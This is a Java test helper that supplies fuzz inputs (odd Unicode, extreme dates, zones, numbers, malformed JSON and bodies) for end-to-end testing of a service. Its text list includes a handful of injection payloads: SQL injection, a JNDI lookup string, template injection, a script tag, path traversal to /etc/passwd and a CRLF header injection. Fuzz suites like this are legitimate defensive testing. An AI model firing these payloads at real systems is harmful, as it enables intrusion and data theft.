package dev.parley.e2e;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;

/** Values that nobody means: each was, or could be, what makes a careless service fail. */
final class FuzzValues {

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "Ann\u0000Lee",
            "\u0001\u001B[31m",
            "\u007F\u0085\u009F",
            "a\r\nBcc: b@mail.example\r\n\r\nc",
            "\u200B\u200C\u200D",
            "\u2060\uFEFF\u00AD",
            "\u202Egpj.exe",
            "\u2067\u2066\u2069",
            "\u3164\u115F\uFFA0",
            "\u2800",
            "\u0301\u0302",
            "\uFE0F",
            "\uDB40\uDC41\uDB40\uDC7F",
            "\uFFFE\uFFFF",
            "\uE000",
            "\uD83D\uDE00".repeat(120),
            "e\u0301".repeat(300),
            "Z\u0351\u036F".repeat(200),
            "\uFDFA".repeat(300),
            "x".repeat(201),
            "x".repeat(5_000),
            "x".repeat(100_000),
            "'; DROP TABLE job; --",
            "${jndi:ldap://x.example/a}",
            "{{7*7}}{constructor}",
            "<script>alert(1)</script>",
            "../../etc/passwd",
            "%00%FF%zz",
            "\\u0000",
            "null",
            "NaN",
            "-0",
            "1e400");

    private static final List<String> TIMES = List.of(
            "+1000000000-12-31T23:59:59.999999999Z",
            "-1000000000-01-01T00:00:00Z",
            "-999999999-01-01",
            "+999999999-12-31",
            "0000-01-01T00:00:00Z",
            "-0044-03-15T12:00:00Z",
            "0001-01-01T00:00:00Z",
            "9999-12-31T23:59:59.999Z",
            "+10000-01-01T00:00:00Z",
            "2026-02-30T10:00:00Z",
            "2026-13-01",
            "2026-01-01T24:00:00Z",
            "2026-01-01T23:59:60Z",
            "2026-01-01T10:00:00+19:00",
            "2026-03-29T02:30:00",
            "1767225600",
            "0001-01-01",
            "9999-12-31",
            "24:00",
            "25:61",
            "PT0S",
            "-PT1H",
            "PT1H-90M",
            "P36500D",
            "PT2562047788015215H",
            "PT9223372036854775807S",
            "PT99999999999999999999H",
            "P1Y");

    private static final List<String> ZONES = List.of(
            "CET",
            "EST",
            "GMT+9",
            "UTC+2",
            "+05:30",
            "Z",
            "Etc/Unknown",
            "Etc/GMT+9",
            "SystemV/AST4ADT",
            "Berlin/Europe",
            "europe/berlin",
            "US/Pacific",
            "Asia/Calcutta",
            "Factory",
            "UTC");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-1",
            "2147483648",
            "-2147483649",
            "9223372036854775807",
            "9223372036854775808",
            "1e400",
            "-1e-400",
            "1.5",
            "0.1e1",
            "1" + "0".repeat(900));

    private static final List<String> IDS = List.of(
            "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "1-1-1-1-1",
            "{0198c0de-0000-7000-8000-000000000000}",
            "0198c0de000070008000000000000000",
            "not-an-id");

    /** Raw JSON that is of no type a field asks for. */
    private static final List<String> OF_ANOTHER_TYPE = List.of(
            "null",
            "true",
            "[]",
            "{}",
            "[null]",
            "[[[[]]]]",
            "{\"a\":{\"b\":null}}",
            "\"\\ud800\"",
            "\"\\udc00a\"",
            "[\"\\u0000\"]",
            "{\"\\u0000\":\"\\u0000\"}",
            "{\"a\":1,\"a\":2}",
            "\"\\x\"",
            "'a'",
            "NaN",
            "01",
            "[1,]",
            "[".repeat(1_500) + "]".repeat(1_500),
            "[" + "0,".repeat(2_000) + "0]",
            "[" + "null,".repeat(2_000) + "null]");

    private FuzzValues() {}

    /** For a query, a path or a header. */
    static List<String> texts() {
        return Stream.of(TEXTS, TIMES, ZONES, NUMBERS, IDS, cursors())
                .flatMap(List::stream)
                .toList();
    }

    /** For the place of a value in JSON. */
    static List<String> json() {
        List<String> all = new ArrayList<>(OF_ANOTHER_TYPE);
        all.addAll(NUMBERS);
        texts().forEach(text -> all.add(quoted(text)));
        return all;
    }

    /** Instead of a whole body. */
    static List<byte[]> bodies() {
        List<byte[]> all = new ArrayList<>();
        for (String text : List.of(
                "", " ", "null", "[]", "{}", "5", "\"x\"", "{", "{\"a\"", "{\"a\":1}}", "{}{}", "\u0000", "\uFEFF{}")) {
            all.add(text.getBytes(StandardCharsets.UTF_8));
        }
        all.add("[".repeat(100_000).getBytes(StandardCharsets.UTF_8));
        all.add("{\"a\":".repeat(50_000).getBytes(StandardCharsets.UTF_8));
        all.add(("{\"" + "k".repeat(60_000) + "\":1}").getBytes(StandardCharsets.UTF_8));
        all.add("{\"a\":\"\u00e9\"}".getBytes(StandardCharsets.ISO_8859_1));
        all.add("{\"a\":\"b\"}".getBytes(StandardCharsets.UTF_16));
        all.add("{\"a\":\"b\"}".getBytes(StandardCharsets.UTF_16LE));
        all.add("{}".getBytes(java.nio.charset.Charset.forName("UTF-32BE")));
        all.add(new byte[] {'{', '"', (byte) 0xC0, (byte) 0x80, '"', ':', '1', '}'});
        all.add(new byte[] {'{', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', ':', '1', '}'});
        all.add(new byte[] {0, 0, 0, 1, 2, 3});
        all.add(new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0, 1, 2});
        return all;
    }

    /** Lines of a file whose columns have these names. */
    static List<byte[]> files(String columns) {
        List<byte[]> all = new ArrayList<>(bodies());
        int others = columns.split(",").length - 1;
        texts().forEach(text ->
                all.add((columns + "\n" + text + ",x".repeat(others) + "\n" + "y,".repeat(others) + text + "\n")
                        .getBytes(StandardCharsets.UTF_8)));
        return all;
    }

    static List<String> mediaTypes() {
        return List.of(
                "text/plain",
                "application/xml",
                "application/x-www-form-urlencoded",
                "multipart/form-data",
                "multipart/form-data; boundary=",
                "application/json; charset=utf-16",
                "application/json; charset=nonsense",
                "application/jsonx",
                "nonsense",
                "///",
                "*/*");
    }

    /** As a string of JSON, with what cannot be written as it is in escapes. */
    static String quoted(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            if (c < ' ' || c == '"' || c == '\\' || c > '~') {
                json.append("\\u%04x".formatted((int) c));
            } else {
                json.append(c);
            }
        }
        return json.append('"').toString();
    }

    private static List<String> cursors() {
        String id = " 0198c0de-0000-7000-8000-000000000000";
        return Stream.of(
                        "created 9223372036854775807" + id,
                        "created -9223372036854775808" + id,
                        "startsAt 0" + id,
                        "x",
                        "")
                .map(plain ->
                        Base64.getUrlEncoder().withoutPadding().encodeToString(plain.getBytes(StandardCharsets.UTF_8)))
                .toList();
    }
}
